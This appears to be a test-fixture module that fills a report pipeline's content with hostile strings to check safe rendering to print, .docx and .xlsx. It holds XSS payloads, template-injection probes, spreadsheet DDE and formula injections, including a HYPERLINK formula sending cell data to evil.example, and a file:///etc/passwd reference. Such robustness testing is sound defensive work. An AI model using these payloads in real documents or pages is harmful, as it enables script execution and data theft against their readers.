"""Invented content for the tests of print, some of it with the worst words that an answer can hold."""

from __future__ import annotations

import io
import re
import zipfile
from itertools import chain, cycle
from typing import Any

from report_factory import inputs_of

from pipeline.report.content import build_content
from pipeline.report.records import Block, Content, Quote, Span

LONGEST = 40_000
HOSTILE = (
    '<script>alert("owned")</script> and some more words to be an answer',
    '"><img src=http://evil.example/x onerror=alert(1)> with a few words after it',
    "</style></title></textarea><svg onload=alert(2)> with a few words after it",
    "{{ 7 * 7 }} {% raw %} ${7*7} &amp; &#60; ]]> <![CDATA[ words after it",
    "=cmd|' /C calc'!A0 and words after it",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1 and then a few more words",
    "-2+3+cmd|' /C calc'!D2",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "\u202etxet desrever si siht and then \u2067 unclosed words that go on and on",
    "emoji 👩‍👩‍👧‍👦 🇬🇧 zero\u200bwidth\u200djoined and arabic عربي نص and hebrew עברית words",
    "nul \x00 bell \x07 half \ufffe escape \x1b[31m and words after it",
    "_x0041_ and _x000D_ as a workbook would write them",
    "https://evil.example/ javascript:alert(1) file:///etc/passwd \\\\host\\share",
    "line\none\r\ntwo\tthree and words after it",
    "word " * (LONGEST // 5),
    "x" * LONGEST,
)


def content_of(**options: Any) -> Content:
    """Content with quotes, of which six a theme are approved."""
    return build_content(**inputs_of(**{"approve": 6, **options}))


def hostile_content() -> Content:
    """Content in which every quote, name, question and sentence that people write holds the worst there is."""
    content = content_of()
    words = chain(HOSTILE[-2:], cycle(HOSTILE[:-2]))
    short = cycle(HOSTILE[:-2])

    def quotes(told: tuple[Quote, ...]) -> tuple[Quote, ...]:
        return tuple(quote.model_copy(update={"display": next(words), "approved": True}) for quote in told)

    def question(told: Any) -> Any:
        themes = tuple(
            theme.model_copy(
                update={"name": next(short), "definition": next(short), "quotes": quotes(theme.quotes)}
                | {"fragments": quotes(theme.fragments)}
            )
            for theme in told.themes
        )
        return told.model_copy(update={"text": next(short), "themes": themes})

    story = [Block(kind="heading", line=1, level=2, spans=(Span(text=next(short)),))]
    story += [
        Block(kind="paragraph", line=i, spans=(Span(text=text), Span(text="; after")))
        for i, text in enumerate(HOSTILE[:-2])
    ]
    return content.model_copy(
        update={
            "title": HOSTILE[0],
            "note": HOSTILE[1],
            "overall": question(content.overall) if content.overall else None,
            "questions": tuple(map(question, content.questions)),
            "story": tuple(story),
        }
    )


def letters(text: str) -> str:
    """The letters and figures of a text alone, in small: what must be there however lines are broken."""
    return re.sub(r"[\W_]+", "", text).casefold()


def parts_of(file: bytes) -> dict[str, bytes]:
    """The parts of a .docx or .xlsx file by their names."""
    with zipfile.ZipFile(io.BytesIO(file)) as opened:
        return {name: opened.read(name) for name in opened.namelist()}
